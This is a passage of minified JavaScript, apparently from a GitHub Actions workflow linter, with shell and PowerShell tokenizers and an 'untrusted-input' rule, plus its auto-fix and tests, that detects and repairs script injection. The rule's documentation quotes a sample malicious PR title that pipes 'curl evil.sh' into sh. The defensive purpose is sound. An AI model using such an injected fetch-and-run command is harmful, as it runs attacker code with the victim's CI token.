if(s===")"){if(e.depth===0&&t[this.i+1]===")"){this.stack.pop(),this.i+=2;return}e.depth>0&&e.depth--}this.i++}}heredocOperator(){let e=this.s;this.endWord();let t=this.i+2,s=e[t]==="-";for(s&&t++;e[t]===" "||e[t]==="	";)t++;let i="",r=!1;for(;t<this.n&&!/[\s;&|<>()]/.test(e[t]);){if(this.spanAt(t))return!1;let o=e[t];if(o==="'"||o==='"'){r=!0;let a=e.indexOf(o,t+1);if(a<0)return!1;for(let c=t+1;c<a;c++)if(this.spanAt(c))return!1;i+=e.slice(t+1,a),t=a+1}else o==="\\"?(r=!0,i+=e[t+1]??"",t+=2):(i+=o,t++)}return i?(this.pending.push({delim:i,strip:s,quoted:r}),this.i=t,!0):!1}nextHeredoc(){for(;;){let e=this.queue.shift();if(!e)return;let t=this.i,s=this.n,i=this.n;for(;t<this.n;){let r=this.lineEnd(t),o=this.s.slice(t,r);if((e.strip?o.replace(/^\t+/,""):o)===e.delim){s=t,i=Math.min(this.n,r+1);break}t=r+1}if(e.quoted){this.fill(s,"literal"),this.i=i;continue}this.stack.push({t:"hd",end:s,resume:i});return}}heredocBody(e){if(this.i>=e.end){this.stack.pop(),this.i=e.resume,this.nextHeredoc();return}let t=this.s[this.i];if(this.spanAt(this.i)){this.take({kind:this.insideOpaque()?"unknown":"heredoc"});return}if(t==="\\"){this.escaped(this.i+1);return}if(!((t==="$"||t==="`")&&this.openExpansion())){if(t==="$"){this.dollar();return}this.i++}}},Jp=class extends zi{stack=[{t:"code",sub:!1,depth:0}];wordStart=!0;run(){if(/[\u2018\u2019\u201a\u201b\u201c\u201d\u201e]/.test(this.s))return this.out;for(;this.i<this.n;){let e=this.stack[this.stack.length-1];e.t==="code"?this.code(e):e.t==="dq"?this.dq(e):this.hereString(e)}return this.out}openExpansion(){let e=this.s,t=this.i;if((e[t]==="$"||e[t]==="@")&&e[t+1]==="(")return this.stack.push({t:"code",sub:!0,depth:0}),this.i+=2,this.wordStart=!0,!0;if(e[t]==="$"&&e[t+1]==="{"){let s=t+2;for(;s<this.n&&e[s]!=="}";)s+=e[s]==="`"?2:1;return this.i=t+2,this.fill(Math.min(s,this.n),"unknown"),this.i=s+1,!0}return!1}hereStringAt(){let e=this.s,t=e[this.i+1];if(e[this.i]!=="@"||t!=="'"&&t!=='"')return;let s=this.lineEnd(this.i);if(e.slice(this.i+2,s).trim()!=="")return;let i=s+1,r=i;for(;r<this.n;){let o=this.lineEnd(r);if(e.startsWith(t+"@",r))return{quote:t,bodyStart:i,end:r,resume:r+2};r=o+1}return{quote:t,bodyStart:i,end:this.n,resume:this.n}}code(e){let t=this.s,s=t[this.i];if(this.spanAt(this.i)){this.take({kind:"code"}),this.wordStart=!1;return}if(s==="`"){this.wordStart=!1,this.escaped(this.i+1);return}if(s==="#"&&this.wordStart){this.fill(this.lineEnd(this.i),"comment");return}if(s==="<"&&t[this.i+1]==="#"){let r=t.indexOf("#>",this.i+2);this.fill(r<0?this.n:r,"comment"),this.i=r<0?this.n:r+2;return}let i=this.hereStringAt();if(i){this.wordStart=!1,this.i=i.bodyStart,i.quote==="'"?(this.fill(i.end,"literal"),this.i=i.resume):this.stack.push({t:"hs",end:i.end,resume:i.resume});return}if(s==="'"){this.wordStart=!1;let r=this.i,o=r+1;for(this.i=o;!(o>=this.n);)if(t[o]==="'"&&t[o+1]==="'")o+=2;else{if(t[o]==="'")break;o++}for(;this.i<o;)this.spanAt(this.i)?this.take({kind:"single",open:r}):this.i++;this.closeString(r,o<this.n?o:void 0),this.i=o+1;return}if(s==='"'){this.wordStart=!1,this.stack.push({t:"dq",open:this.i}),this.i++;return}if((s==="$"||s==="@")&&this.openExpansion()){this.wordStart=!1;return}if(s==="("||s==="{"){e.depth++,this.wordStart=!0,this.i++;return}if(s===")"||s==="}"){this.i++,this.wordStart=!1,s===")"&&e.depth===0&&e.sub?this.stack.pop():e.depth>0&&e.depth--;return}this.wordStart=/[\s;|&]/.test(s),this.i++}dq(e){let t=this.s,s=t[this.i];if(this.spanAt(this.i)){this.take({kind:"double",open:e.open});return}if(s==="`"){this.escaped(this.i+1);return}if(s==='"'){if(t[this.i+1]==='"'){this.i+=2;return}this.stack.pop(),this.closeString(e.open,this.i),this.i++;return}s==="$"&&this.openExpansion()||this.i++}hereString(e){if(this.i>=e.end){this.stack.pop(),this.i=e.resume;return}let t=this.s[this.i];if(this.spanAt(this.i)){this.take({kind:"heredoc"});return}if(t==="`"){this.escaped(this.i+1);return}t==="$"&&this.openExpansion()||this.i++}},Nv=new Set(["return","typeof","instanceof","in","of","new","delete","void","throw","case","do","else","yield","await"]),Xp=class extends zi{stack=[{t:"code",inTemplate:!1,depth:0}];prev="op";prevWord="";run(){for(;this.i<this.n;){let e=this.stack[this.stack.length-1];e.t==="code"?this.code(e):this.template(e)}return this.out}regexAllowed(){return this.prev==="op"||this.prev==="word"&&Nv.has(this.prevWord)}code(e){let t=this.s,s=t[this.i];if(this.spanAt(this.i)){this.take({kind:"code"}),this.prev="word",this.prevWord="";return}if(s==="/"&&t[this.i+1]==="/"){this.fill(this.lineEnd(this.i),"comment");return}if(s==="/"&&t[this.i+1]==="*"){let i=t.indexOf("*/",this.i+2);this.fill(i<0?this.n:i,"comment"),this.i=i<0?this.n:i+2;return}if(s==="/"&&this.regexAllowed()){let i=this.i+1,r=!1;for(;i<this.n&&t[i]!==`
`;){if(t[i]==="\\")i++;else if(t[i]==="[")r=!0;else if(t[i]==="]")r=!1;else if(t[i]==="/"&&!r)break;i++}this.i++,this.fill(Math.min(i,this.n),"unknown"),this.i=i+1,this.prev="word",this.prevWord="";return}if(s==="'"||s==='"'){let i=s==="'"?"single":"double",r=this.i,o=r+1;for(this.i=o;o<this.n&&t[o]!==s&&t[o]!==`
`;){if(t[o]==="\\"){if(this.spanAt(o+1)){this.i=o+1,this.take({kind:"unknown"}),o=this.i;continue}o+=2;continue}if(this.spanAt(o)){this.i=o,this.take({kind:i,open:r}),o=this.i;continue}o++}let a=o<this.n&&t[o]===s;this.closeString(r,a?o:void 0),this.i=o+1,this.prev="word",this.prevWord="";return}if(s==="`"){let i=this.prev==="close"||this.prev==="word"&&!Nv.has(this.prevWord);this.stack.push({t:"tpl",tagged:i}),this.i++;return}if(/[A-Za-z0-9_$]/.test(s)){let i=this.i;for(;i<this.n&&/[A-Za-z0-9_$]/.test(t[i])&&!(i>this.i&&this.spanAt(i));)i++;this.prevWord=t.slice(this.i,i),this.prev="word",this.i=i;return}if(s==="{")e.depth++,this.prev="op";else if(s==="}"){if(e.inTemplate&&e.depth===0){this.stack.pop(),this.i++;return}e.depth>0&&e.depth--,this.prev="close"}else s===")"||s==="]"?this.prev="close":/\s/.test(s)||(this.prev="op");this.i++}template(e){let t=this.s,s=t[this.i];if(this.spanAt(this.i)){this.take({kind:e.tagged?"unknown":"template"});return}if(s==="\\"){this.escaped(this.i+1);return}if(s==="`"){this.stack.pop(),this.prev="word",this.prevWord="",this.i++;return}if(s==="$"&&t[this.i+1]==="{"){this.stack.push({t:"code",inTemplate:!0,depth:0}),this.prev="op",this.i+=2;return}this.i++}};var TC=new Set(["PATH","HOME","PWD","OLDPWD","IFS","SHELL","USER","LOGNAME","LANG","LANGUAGE","TERM","TMPDIR","TEMP","TMP","HOSTNAME","CI","ENV","BASH_ENV","CDPATH","SHELLOPTS","BASHOPTS","POSIXLY_CORRECT","PS1","PS2","PS4","LD_PRELOAD","LD_LIBRARY_PATH","NODE_OPTIONS","NODE_PATH","PYTHONPATH","PYTHONHOME","PATHEXT","COMSPEC","SYSTEMROOT","WINDIR","USERPROFILE","APPDATA","PSMODULEPATH","PROMPT"]);function LC(n){let s=(n.match(/[A-Za-z_][A-Za-z0-9_-]*/g)??[]).filter(i=>!["github","event","env","inputs"].includes(i.toLowerCase())||!1).slice(-2).map(i=>i.replace(/[^A-Za-z0-9]+/g,"_").toUpperCase()).join("_").replace(/_+/g,"_").replace(/^_|_$/g,"");return s||(s="VALUE"),/^[0-9]/.test(s)&&(s=`V_${s}`),(TC.has(s)||/^(GITHUB|RUNNER|ACTIONS|INPUT|STATE)_/.test(s))&&(s=`EVENT_${s}`),s}function IC(n){let e=Vi(n);if(e)return e==="windows"?"windows":"posix";let t=n.toLowerCase();if(/(^|[^a-z])win(dows)?([^a-z]|$)/.test(t))return"windows";if(/ubuntu|linux|macos|darwin|debian|fedora|centos|alpine|rhel/.test(t))return"posix"}function PC(n,e,t){let s=T(n,e.pairs.get("strategy")?.value),i=L(s)?T(n,Y(n,s).get("matrix")?.value):void 0;if(!L(i))return;let r=Y(n,i),o=[],a=u=>{let p=P(u);return p!==void 0&&F(u)&&!p.includes("${{")?p:void 0},c=T(n,r.get(t)?.value);if(G(c))for(let u of c.items){let p=a(T(n,u));if(p===void 0)return;o.push(p)}else if(c!==void 0)return;let l=T(n,r.get("include")?.value);if(G(l))for(let u of l.items){let p=T(n,u);if(!L(p))return;let d=Y(n,p).get(t);if(!d)continue;let f=a(T(n,d.value));if(f===void 0)return;o.push(f)}else if(l!==void 0)return;return o.length?o:void 0}function jC(n,e){let t=T(n,e.pairs.get("container")?.value),s=L(t)?T(n,Y(n,t).get("image")?.value):t,i=P(s);if(i&&!i.includes("${{"))return new Set(["posix"]);let r=e.runsOn;if(L(r)&&(r=T(n,Y(n,r).get("labels")?.value)),r==null)return;let o=G(r)?r.items.map(l=>T(n,l)):[r],a=[[]];for(let l of o){let u=P(l);if(u===void 0)return;let p=/^\$\{\{\s*matrix\.([A-Za-z_][\w-]*)\s*\}\}$/.exec(u.trim());if(p){let d=PC(n,e,p[1]);if(!d||a.length*d.length>1024)return;a=a.flatMap(f=>d.map(h=>[...f,h]))}else{if(u.includes("${{"))return;for(let d of a)d.push(u)}}let c=new Set;for(let l of a){let u=new Set(l.map(IC).filter(p=>p!==void 0));if(u.size!==1)return;c.add([...u][0])}return c}function qC(n){let e=(n.trim().toLowerCase().split(/\s+/)[0]??"").replace(/^.*[\\/]/,"").replace(/\.exe$/,"");if(e==="bash"||e==="sh")return"sh";if(e==="pwsh"||e==="powershell")return"pwsh";if(e==="cmd")return"cmd"}function UC(n,e,t){let s=o=>Y(n,de(n,Y(n,de(n,Y(n,o).get("defaults"))).get("run"))).get("shell"),i=[t.pairs.get("shell"),e?s(e.node):void 0,n.kind==="workflow"?s(K(n).root):void 0];for(let o of i){if(!o)continue;let a=P(T(n,o.value));return a===void 0||a.includes("${{")?void 0:qC(a)}if(!e)return;let r=jC(n,e);if(!(!r||r.size!==1))return r.has("windows")?"pwsh":"sh"}function _v(n,e){let t=e-1;for(;t>=0&&/\s/.test(n[t]);)t--;return t>=0?n[t]:""}function $v(n,e){let t=e;for(;t<n.length&&/\s/.test(n[t]);)t++;return n[t]??""}function HC(n,e,t,s,i,r){let o=t[s.end]??"",a=t[s.start-1]??"",l=(e.kind==="single"||e.kind==="double")&&e.open===s.start-1&&e.close===s.end,u=d=>[{start:s.start-1,end:s.end+1,text:d}];if(r&&(e.kind==="double"||e.kind==="code"&&n!=="js"&&n!=="cmd"))return;let p=d=>[{start:s.start,end:s.end,text:d}];switch(n){case"sh":{let d=/[A-Za-z0-9_]/.test(o)?`\${${i}}`:`$${i}`;switch(e.kind){case"code":return p(`"$${i}"`);case"double":return l?u(`"$${i}"`):p(d);case"single":return l?u(`"$${i}"`):p(`'"$${i}"'`);case"heredoc":case"comment":return p(d);default:return}}case"pwsh":{let d=/[\w:?]/.test(o)?`\${env:${i}}`:`$env:${i}`;switch(e.kind){case"code":return o==="."||o==="["?void 0:p(d);case"double":return l?u(`$env:${i}`):p(d);case"single":return l?u(`$env:${i}`):void 0;case"heredoc":case"comment":return p(d);default:return}}case"cmd":return p(`%${i}%`);case"js":{let d=`process.env.${i}`;switch(e.kind){case"code":return/[\w$.]/.test(a)||/[\w$]/.test(o)?void 0:p(r?`JSON.parse(${d})`:d);case"single":case"double":{if(e.open===void 0||e.close===void 0||$v(t,e.close+1)===":"&&/^[{,]$/.test(_v(t,e.open)))return;if(l)return u(d);let f=t[e.open],h={start:s.start,end:s.end,text:`${f} + ${d} + ${f}`};return/^[(,=[{;:?<>&|+]?$/.test(_v(t,e.open))&&/^[),;\]}:+=!<>&|?]?$/.test($v(t,e.close+1))?[h]:[{start:e.open,end:e.open,text:"("},h,{start:e.close+1,end:e.close+1,text:")",after:!0}]}case"template":return p(`\${${d}}`);case"comment":return p(d);default:return}}}}function YC(n,e,t){switch(n.type){case"QUOTE_DOUBLE":return e.replace(/\\/g,"\\\\").replace(/"/g,'\\"');case"QUOTE_SINGLE":return e.replace(/'/g,"''");case"PLAIN":return t&&/^["'`%@&*!|>{[]/.test(e)||/ #|: /.test(e)?void 0:e;default:return e}}function WC(n){return/: | #|^\s|\s$|^[^$]/.test(n)?`'${n.replace(/'/g,"''")}'`:n}function BC(n,e,t){let s=new Map,i=r=>{for(let o of r?.items??[]){let a=P(o.key);a!==void 0&&!s.has(a.toUpperCase())&&s.set(a.toUpperCase(),P(T(n,o.value)))}};return i(de(n,t.pairs.get("env"))),i(de(n,e?.pairs.get("env"))),i(de(n,Y(n,K(n).root).get("env"))),s}function GC(n,e){return new RegExp(`(^|[^A-Za-z0-9_])${e}([^A-Za-z0-9_]|$)`,"i").test(n)}function VC(n,e){return new RegExp(`(^|[^A-Za-z0-9_])${e}\\s*=(?!=)|\\b(read|for|local|declare|typeset|export|unset|set)\\b[^\\n;]*\\b${e}\\b`,"i").test(n)}function Cv(n,e,t){let s=xe(n).find(({step:B})=>(B.node.range?.[0]??-1)<=e&&e<(B.node.range?.[1]??-1));if(!s)return;let{job:i,step:r}=s;if(r.node.flow||Li(n,e))return;let o,a,c=B=>!!B?.range&&B.range[0]<=e&&e<B.range[1];if(c(r.runNode))o=r.runNode,a=UC(n,i,r);else if(/^actions\/github-script@/i.test(r.uses??"")){let B=r.with?.items.find(dt=>P(dt.key)==="script"),ve=T(n,B?.value);F(ve)&&c(ve)&&(o=ve,a="js")}if(!o||!a)return;let l=wt(o,n.text);if(!l||!l.exact)return;let u=l.value,{templates:p}=qi(u),d=B=>l.offsets[B],f=B=>{let ve=l.offsets[B],dt=l.offsets[B-1]+1;if(ve===void 0||ve<dt)return dt;for(;ve>dt&&/\s/.test(n.text[ve-1]);)ve--;return ve},h=p.find(B=>B.node&&d(B.start)<=e&&e<f(B.end));if(!h)return;let m=u.slice(h.start+3,h.end-2).trim();if(m.includes(`
`))return;let g=n.text.slice(e,t),w=`\${{ ${m} }}`,v=/^toJSON\s*\(/i.test(m)&&m.endsWith(")"),O="",S=0;for(let B of p)O+=u.slice(S,B.start)+" ",S=B.end;O+=u.slice(S);let A=BC(n,i,r),C=de(n,r.pairs.get("env")),E=LC(g),_=E,q=!1;for(let B=2;;B++){let ve=A.get(_);if(C?.items.some(hn=>P(hn.key)?.toUpperCase()===_)&&ve!==void 0&&ve.replace(/\s+/g," ").trim()===w&&!VC(O,_)){q=!0;break}if(!A.has(_)&&!GC(O,_))break;_=`${E}_${B}`}let me=p.filter(B=>B.node&&u.slice(B.start+3,B.end-2).trim()===m),we=Ev(u,a,p),ue=[];for(let B of me){let ve=HC(a,we[p.indexOf(B)],u,B,_,v);if(!ve)return;ue.push(...ve)}let xt=[],fn=new Set;for(let B of ue){let ve=`${B.start}:${B.end}:${B.text}`;if(B.start===B.end&&fn.has(ve))continue;fn.add(ve);let dt=YC(o,B.text,B.start===0);if(dt===void 0)return;let hn=B.after?f(B.start):d(B.start);xt.push({range:n.lines.range(hn,B.start===B.end?hn:f(B.end)),newText:dt})}if(!q){let B=Ra(n,r,"env",[`${_}: ${WC(w)}`],[`${_}: '${w.replace(/'/g,"''")}'`]);if(!B)return;xt.push(B)}return{title:`Move \${{ ${m} }} to env as ${_}`,preferred:!0,edits:xt}}var zC={id:"untrusted-input",language:"workflow",severity:"warning",compat:{actionlint:"expression"},docs:{summary:"A `${{ }}` in a `run:` script (or an `actions/github-script` script) expands text an outsider controls: issue and pull request titles and bodies, comments, branch names, commit messages.",why:'GitHub pastes the value into the script before it runs, so a pull request titled `"; curl evil.sh | sh; "` runs that command with your token (script injection). Pass the value through `env:` and use the shell variable instead. The quick fix does that with the reference the place needs (`"$NAME"`, `$NAME` inside double quotes or an unquoted here-document, `$env:NAME` in PowerShell, `%NAME%` in cmd, `process.env.NAME` in github-script); it is not offered where no variable reads the same text (a quoted here-document, a PowerShell literal here-string, a regular expression literal), where the shell is not the same on every runner of a matrix, or where the step is shared through a YAML alias.',bad:`on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.event.issue.title }}"
`,good:`on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE"
        env:
          TITLE: \${{ github.event.issue.title }}
`},check(n){if(n.model.kind==="workflow")for(let e of _a(n.model,n.files,n.path).diags){if(e.rule!=="untrusted-input")continue;let t=Cv(n.model,e.start,e.end);n.report({message:e.message,range:n.model.lines.range(e.start,Math.max(e.end,e.start)),severity:e.severity,fixes:t?[t]:void 0})}},tests:[{name:"titles, commit messages and branch names in scripts",input:`on: pull_request
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo \${{ github.event.pull_request.title }}
          echo \${{ github.event.commits[0].message }} \${{ github.head_ref }}
      - uses: actions/github-script@v7
        with:
          script: console.log('\${{ github.event.pull_request.body }}')
`,expect:[{line:7,col:20,message:'"github.event.pull_request.title" is potentially untrusted'},{line:8,col:20,message:"github.event.commits.*.message"},{line:8,message:"github.head_ref"},{line:11,message:"github.event.pull_request.body"}]},{name:"untrusted values through env, and trusted values in scripts",input:`on: pull_request
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$T" \${{ github.event.pull_request.number }} \${{ github.sha }}
        env:
          T: \${{ github.event.pull_request.title }}
`,expect:[]},{name:"fix: moves the expression to the step env (block scalar, quoting kept, one name per expression)",input:`on: pull_request
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo \${{ github.event.pull_request.title }}
          echo "title: \${{ github.event.pull_request.title }}!" '\${{ github.head_ref }}'
        shell: bash
      - run: echo 'x\${{ github.event.pull_request.body }}y'
`,expect:[{line:7,col:20},{line:8,col:28},{line:8,col:70},{line:10,col:25}],fixed:`on: pull_request
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "$PULL_REQUEST_TITLE"
          echo "title: $PULL_REQUEST_TITLE!" "$HEAD_REF"
        shell: bash
        env:
          PULL_REQUEST_TITLE: \${{ github.event.pull_request.title }}
          HEAD_REF: \${{ github.head_ref }}
      - run: echo 'x'"$PULL_REQUEST_BODY"'y'
        env:
          PULL_REQUEST_BODY: \${{ github.event.pull_request.body }}
`},{name:"fix: extends an existing env without colliding, quoted YAML scalars, github-script",input:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      ISSUE_TITLE: fixed
    steps:
      - name: t
        env:
          OTHER: 1
        run: "echo \\"\${{ github.event.issue.title }}\\""
      - uses: actions/github-script@v7
        with:
          script: |
            console.log('\${{ github.event.issue.body }}')
            console.log(\`body: \${{ github.event.issue.body }}\`, "t=\${{ github.event.issue.title }}")
`,expect:[{line:11,col:26},{line:15,col:30},{line:16,col:36},{line:16,col:72}],fixed:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      ISSUE_TITLE: fixed
    steps:
      - name: t
        env:
          OTHER: 1
          ISSUE_TITLE_2: \${{ github.event.issue.title }}
        run: "echo \\"$ISSUE_TITLE_2\\""
      - uses: actions/github-script@v7
        with:
          script: |
            console.log(process.env.ISSUE_BODY)
            console.log(\`body: \${process.env.ISSUE_BODY}\`, "t=" + process.env.ISSUE_TITLE_2 + "")
        env:
          ISSUE_BODY: \${{ github.event.issue.body }}
          ISSUE_TITLE_2: \${{ github.event.issue.title }}
`},{name:"fix: PowerShell on Windows runners, cmd, flow and empty env; none for python",input:`on: issues
jobs:
  a:
    runs-on: windows-latest
    steps:
      - run: Write-Output "\${{ github.event.issue.title }}"
        env: {}
      - run: echo \${{ github.event.issue.title }}
        shell: cmd
        env:
      - run: print('\${{ github.event.issue.title }}')
        shell: python
`,expect:[{line:6,col:32},{line:8,col:23},{line:11,col:25}],fixed:`on: issues
jobs:
  a:
    runs-on: windows-latest
    steps:
      - run: Write-Output $env:ISSUE_TITLE
        env: { ISSUE_TITLE: '\${{ github.event.issue.title }}' }
      - run: echo %ISSUE_TITLE%
        shell: cmd
        env:
          ISSUE_TITLE: \${{ github.event.issue.title }}
      - run: print('\${{ github.event.issue.title }}')
        shell: python
`},{name:"fix: nothing expands in a quoted here-document (no fix); an unquoted one gets the bare variable",input:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          cat <<'EOF'
          title: \${{ github.event.issue.title }}
          EOF
      - run: |
          cat <<"EOF" > a.txt; cat <<\\END
          \${{ github.event.issue.title }}
          EOF
          \${{ github.event.issue.title }}
          END
      - run: |
          cat <<EOF > out.txt; cat <<-'X'
          title: "\${{ github.event.issue.title }}" (\${{ github.event.issue.title }}s) $(echo \${{ github.event.issue.title }})
          EOF
          \${{ github.event.issue.title }}
          X
          echo '\${{ github.event.issue.title }}'
`,expect:[{line:8},{line:12},{line:14},{line:18},{line:18},{line:18},{line:20},{line:22}],fixed:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          cat <<'EOF'
          title: \${{ github.event.issue.title }}
          EOF
      - run: |
          cat <<"EOF" > a.txt; cat <<\\END
          \${{ github.event.issue.title }}
          EOF
          \${{ github.event.issue.title }}
          END
      - run: |
          cat <<EOF > out.txt; cat <<-'X'
          title: "\${{ github.event.issue.title }}" (\${{ github.event.issue.title }}s) $(echo \${{ github.event.issue.title }})
          EOF
          \${{ github.event.issue.title }}
          X
          echo '\${{ github.event.issue.title }}'
`},{name:"fix: unquoted here-documents, command substitutions and quotes each get the reference that keeps the text",input:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          cat <<EOF > out.txt
          title: "\${{ github.event.issue.title }}" (\${{ github.event.issue.title }}s) $(echo \${{ github.event.issue.title }})
          EOF
          echo "$(printf '%s' "\${{ github.event.issue.title }}")" 'a \${{ github.event.issue.title }} b' "x\${{ github.event.issue.title }}y"
          t=\${{ github.event.issue.title }}; echo "$t" # \${{ github.event.issue.title }}
          echo '\${{ github.event.issue.title }}'
`,expect:[{line:8},{line:8},{line:8},{line:10},{line:10},{line:10},{line:11},{line:11},{line:12}],fixed:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          cat <<EOF > out.txt
          title: "$ISSUE_TITLE" (\${ISSUE_TITLE}s) $(echo "$ISSUE_TITLE")
          EOF
          echo "$(printf '%s' "$ISSUE_TITLE")" 'a '"$ISSUE_TITLE"' b' "x\${ISSUE_TITLE}y"
          t="$ISSUE_TITLE"; echo "$t" # $ISSUE_TITLE
          echo "$ISSUE_TITLE"
        env:
          ISSUE_TITLE: \${{ github.event.issue.title }}
`},{name:'fix: none where the quoted variable would mean something else (regex match, escaped, $"\u2026", backquotes, ${\u2026})',input:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: if [[ "$t" =~ \${{ github.event.issue.title }} ]]; then echo; fi
      - run: echo \\\${{ github.event.issue.title }}
      - run: echo "\\\${{ github.event.issue.title }}"
      - run: echo \`echo \${{ github.event.issue.title }}\`
      - run: echo "\${X:-\${{ github.event.issue.title }}}"
      - run: echo $'\${{ github.event.issue.title }}'
`,expect:[{line:6},{line:7},{line:8},{line:9},{line:10},{line:11}],fixed:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: if [[ "$t" =~ \${{ github.event.issue.title }} ]]; then echo; fi
      - run: echo \\\${{ github.event.issue.title }}
      - run: echo "\\\${{ github.event.issue.title }}"
      - run: echo \`echo \${{ github.event.issue.title }}\`
      - run: echo "\${X:-\${{ github.event.issue.title }}}"
      - run: echo $'\${{ github.event.issue.title }}'
`},{name:"fix: the reference must suit every runner of a matrix; unknown runners get no fix",input:`on: issues
jobs:
  a:
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
    runs-on: \${{ matrix.os }}
    steps:
      - run: echo "\${{ github.event.issue.title }}"
      - run: echo "\${{ github.event.issue.body }}"
        shell: bash
  b:
    strategy:
      matrix:
        os: [ubuntu-22.04, macos-14]
        include:
          - os: windows-2022
    runs-on: \${{ matrix.os }}
    steps:
      - run: echo "\${{ github.event.issue.title }}"
  c:
    strategy:
      matrix:
        os: [windows-2022, windows-2025]
    runs-on: \${{ matrix.os }}
    steps:
      - run: Write-Output "\${{ github.event.issue.title }}"
  d:
    runs-on: self-hosted
    steps:
      - run: echo "\${{ github.event.issue.title }}"
  e:
    runs-on: [self-hosted, linux, x64]
    steps:
      - run: echo "\${{ github.event.issue.title }}"
  f:
    runs-on: \${{ inputs.runner }}
    steps:
      - run: echo "\${{ github.event.issue.title }}"
`,expect:[{line:9},{line:10},{line:20},{line:27},{line:31},{line:35},{line:39}],fixed:`on: issues
jobs:
  a:
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
    runs-on: \${{ matrix.os }}
    steps:
      - run: echo "\${{ github.event.issue.title }}"
      - run: echo "$ISSUE_BODY"
        shell: bash
        env:
          ISSUE_BODY: \${{ github.event.issue.body }}
  b:
    strategy:
      matrix:
        os: [ubuntu-22.04, macos-14]
        include:
          - os: windows-2022
    runs-on: \${{ matrix.os }}
    steps:
      - run: echo "\${{ github.event.issue.title }}"
  c:
    strategy:
      matrix:
        os: [windows-2022, windows-2025]
    runs-on: \${{ matrix.os }}
    steps:
      - run: Write-Output $env:ISSUE_TITLE
        env:
          ISSUE_TITLE: \${{ github.event.issue.title }}
  d:
    runs-on: self-hosted
    steps:
      - run: echo "\${{ github.event.issue.title }}"
  e:
    runs-on: [self-hosted, linux, x64]
    steps:
      - run: echo "$ISSUE_TITLE"
        env:
          ISSUE_TITLE: \${{ github.event.issue.title }}
  f:
    runs-on: \${{ inputs.runner }}
    steps:
      - run: echo "\${{ github.event.issue.title }}"
`},{name:"fix: never edits a map or script another place shares through a YAML alias",input:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.event.issue.title }}"
        env: &e
          A: 1
      - run: echo "$A"
        env: *e
      - run: &r echo "\${{ github.event.issue.body }}"
      - run: *r
        env:
          B: 2
`,expect:[{line:6},{line:11}],fixed:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.event.issue.title }}"
        env: &e
          A: 1
      - run: echo "$A"
        env: *e
      - run: &r echo "\${{ github.event.issue.body }}"
      - run: *r
        env:
          B: 2
`},{name:"fix: other shells (custom bash, node, expression) and names the script already uses",input:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: ISSUE_TITLE=x; echo "$ISSUE_TITLE \${{ github.event.issue.title }}"
        shell: /usr/bin/bash -e {0}
      - run: console.log('\${{ github.event.issue.title }}')
        shell: node {0}
      - run: echo "\${{ github.event.issue.title }}"
        shell: \${{ matrix.shell }}
`,expect:[{line:6},{line:8},{line:10}],fixed:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: ISSUE_TITLE=x; echo "$ISSUE_TITLE $ISSUE_TITLE_2"
        shell: /usr/bin/bash -e {0}
        env:
          ISSUE_TITLE_2: \${{ github.event.issue.title }}
      - run: console.log('\${{ github.event.issue.title }}')
        shell: node {0}
      - run: echo "\${{ github.event.issue.title }}"
        shell: \${{ matrix.shell }}
`},{name:"fix: PowerShell literal here-strings, single quotes and member access keep the expression",input:`on: issues
jobs:
  a:
    runs-on: windows-latest
    steps:
      - run: |
          $a = @'
          it's \${{ github.event.issue.title }}
          '@
          $b = @"
          it's "\${{ github.event.issue.body }}" \${{ github.event.issue.body }}x
          "@
      - run: Write-Output 'a \${{ github.event.issue.title }}'
      - run: Write-Output \${{ github.event.issue.title }}.txt
`,expect:[{line:8},{line:11},{line:11},{line:13},{line:14}],fixed:`on: issues
jobs:
  a:
    runs-on: windows-latest
    steps:
      - run: |
          $a = @'
          it's \${{ github.event.issue.title }}
          '@
          $b = @"
          it's "$env:ISSUE_BODY" \${env:ISSUE_BODY}x
          "@
        env:
          ISSUE_BODY: \${{ github.event.issue.body }}
      - run: Write-Output 'a \${{ github.event.issue.title }}'
      - run: Write-Output \${{ github.event.issue.title }}.txt
`},{name:"fix: github-script regular expressions, tagged templates and string operands",input:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        with:
          script: |
            if (/\${{ github.event.issue.title }}/.test(x)) return;
            const t = String.raw\`\${{ github.event.issue.title }}\`;
      - uses: actions/github-script@v7
        with:
          script: |
            const n = 'a\${{ github.event.issue.body }}b'.length;
            const o = JSON.parse(\`\${{ github.event.issue.body }}\`) / 2;
`,expect:[{line:9},{line:10},{line:14},{line:15}],fixed:`on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        with:
          script: |
            if (/\${{ github.event.issue.title }}/.test(x)) return;
            const t = String.raw\`\${{ github.event.issue.title }}\`;
      - uses: actions/github-script@v7
        with:
          script: |
            const n = ('a' + process.env.ISSUE_BODY + 'b').length;
            const o = JSON.parse(\`\${process.env.ISSUE_BODY}\`) / 2;
        env:
          ISSUE_BODY: \${{ github.event.issue.body }}
